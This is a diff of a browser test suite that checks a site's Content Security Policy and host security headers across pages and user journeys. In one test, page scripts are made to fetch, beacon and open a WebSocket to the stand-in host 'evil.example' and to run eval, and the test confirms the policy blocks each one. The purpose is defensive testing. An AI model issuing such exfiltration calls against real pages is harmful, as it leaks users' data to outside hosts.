@@ -1,14 +1,14 @@
 import { readFileSync } from 'node:fs';
-import type { Route } from 'playwright-core';
+import type { Page, Route } from 'playwright-core';
 import { describe, expect, inject, it } from 'vitest';
 import { securityHeaders } from '#publish/policy/host-headers.ts';
 import { expectNone } from './support/findings.ts';
 import { journeys } from './support/journeys.ts';
 import { watchForLeftOutStyle } from './support/left-out-style.ts';
 import { all, pages, place } from './support/pages.ts';
-import { sample } from './support/sample.ts';
-import { at, onOnePage, useBrowser, useOnePage, wide } from './support/visit.ts';
-import { nothing, watch, type Watched } from './support/watch.ts';
+import { heaviestOfEachKind } from './support/sample.ts';
+import { at, onOnePage, useBrowser, wide } from './support/visit.ts';
+import { nothing, watch } from './support/watch.ts';
 
 useBrowser();
 
@@ -58,11 +58,11 @@ describe('the policy in the pages', () => {
 });
 
 describe('under the policy', () => {
-  // Of the rest the markup above is enough: their parts are on these.
-  it('every page of the sample opens below a path, finds all it asks for, and has no violation, no error, no cookie and no request to elsewhere', async () => {
+  // Of the rest the markup above is enough, and `first-visit.test.ts` finds whatever a browser refuses among its errors.
+  it('a page of each kind opens below a path, finds all it asks for, and has no violation, no error, no cookie and no request to elsewhere', async () => {
     await onOnePage({ viewport: wide }, async (tab) => {
       const watched = await watch(tab, origin());
-      for (const { address } of sample) await tab.goto(at(address), { waitUntil: 'load' });
+      for (const { address } of heaviestOfEachKind) await tab.goto(at(address), { waitUntil: 'load' });
       expect(watched).toEqual(nothing);
       expect(await tab.context().cookies()).toEqual([]);
     });
@@ -77,32 +77,28 @@ describe('under the policy', () => {
     });
   });
 
-  it.each(Object.entries(journeys))('%s works without any, and misses no style', async (_name, journey) => {
+  // With the headers of a host as well, where both rule, what both allow works under either.
+  const withHeaders = ['searching', 'putting a group on the board', 'reading codes with the camera'];
+  it.each(Object.entries(journeys))('%s works without any, and misses no style', async (name, journey) => {
     await onOnePage({ viewport: wide, acceptDownloads: true }, async (tab) => {
       const watched = await watch(tab, origin());
       const unstyled = await watchForLeftOutStyle(tab);
+      if (withHeaders.includes(name)) await addHeaders(tab);
       await journey(tab);
       expectNone(unstyled);
       expect(watched).toEqual(nothing);
       expect(await tab.context().cookies()).toEqual([]);
     });
   });
-
-  it.each(['searching', 'putting a group on the board', 'reading codes with the camera'])(
-    '%s also works with the headers of a host',
-    async (name) => {
-      await onOnePage({ viewport: wide, acceptDownloads: true }, async (tab) => {
-        const watched = await watch(tab, origin());
-        await tab.route('**/*', async (route) => {
-          const response = await route.fetch();
-          await route.fulfill({ response, headers: { ...response.headers(), ...securityHeaders } });
-        });
-        await journeys[name]!(tab);
-        expect(watched).toEqual(nothing);
-      });
-    },
-  );
+  it('there are those that are gone with headers too', () => expect(Object.keys(journeys)).toEqual(expect.arrayContaining(withHeaders)));
 });
+
+/** Answers with the headers that a host which reads a file of them sends. */
+const addHeaders = (tab: Page) =>
+  tab.route('**/*', async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, headers: { ...response.headers(), ...securityHeaders } });
+  });
 
 describe('whatever gets into a page', () => {
   /** Each would call `ranInside` if it could; behind it, the directive that stops it. */
@@ -141,12 +137,8 @@ describe('whatever gets into a page', () => {
     });
   });
 
-  // One tab for all: each act finds a page that was just opened.
-  let watched: Watched;
-  const tab = useOnePage({}, async (opened) => {
-    watched = await watch(opened, origin());
-  });
-  it.each([
+  /** Each would get something in or out if it could; before it, the directive that stops it. */
+  const acts: [directive: string, what: string, act: () => unknown][] = [
     ['connect-src', 'fetch', () => fetch('https://evil.example/?note')],
     ['connect-src', 'beacon', () => navigator.sendBeacon('https://evil.example/', 'note')],
     ['connect-src', 'socket', () => void new WebSocket('wss://evil.example/')],
@@ -192,33 +184,36 @@ describe('whatever gets into a page', () => {
         link.click();
       },
     ],
-  ] as [string, string, () => unknown][])('is stopped by %s when a script of ours is led to %s', async (directive, _what, act) => {
-    await tab().goto(at('/privacy/'));
-    watched.refused.length = 0;
-    await tab()
-      .evaluate(act)
-      .catch(() => {});
-    await expect.poll(() => watched.refused.map((what) => what.split(' ')[1])).toContain(directive);
-    expect([watched.ran, watched.elsewhere]).toEqual([[], []]);
-  });
+  ];
 
-  it('runs nowhere as text of `eval`', async () => {
-    await tab().goto(at('/privacy/'));
-    const refused = await tab().evaluate(
-      () =>
-        new Promise((told) => {
-          document.addEventListener('securitypolicyviolation', () => told(true));
-          setTimeout(() => {
-            try {
-              (0, eval)('ranInside(5)');
-              told(false);
-            } catch {
-              told(true);
-            }
-          });
-        }),
-    );
-    expect(refused).toBe(true);
-    expect(watched.ran).toEqual([]);
+  it('is stopped when a script of ours is led to it, and runs nowhere as text of `eval`', async () => {
+    await onOnePage({}, async (tab) => {
+      const watched = await watch(tab, origin());
+      await tab.goto(at('/privacy/'));
+      // All on one page, which none of them may take away.
+      await tab.evaluate(() => Object.assign(window, { neverLeft: true }));
+      for (const [directive, what, act] of acts) {
+        watched.refused.length = 0;
+        await tab.evaluate(act).catch(() => {});
+        await expect.poll(() => watched.refused.map((refused) => refused.split(' ')[1]), what).toEqual([directive]);
+      }
+      const refused = await tab.evaluate(
+        () =>
+          new Promise((told) => {
+            document.addEventListener('securitypolicyviolation', () => told(true));
+            setTimeout(() => {
+              try {
+                (0, eval)('ranInside(5)');
+                told(false);
+              } catch {
+                told(true);
+              }
+            });
+          }),
+      );
+      expect(refused).toBe(true);
+      expect([watched.ran, watched.elsewhere]).toEqual([[], []]);
+      expect(await tab.evaluate(() => 'neverLeft' in window)).toBe(true);
+    });
   });
 });
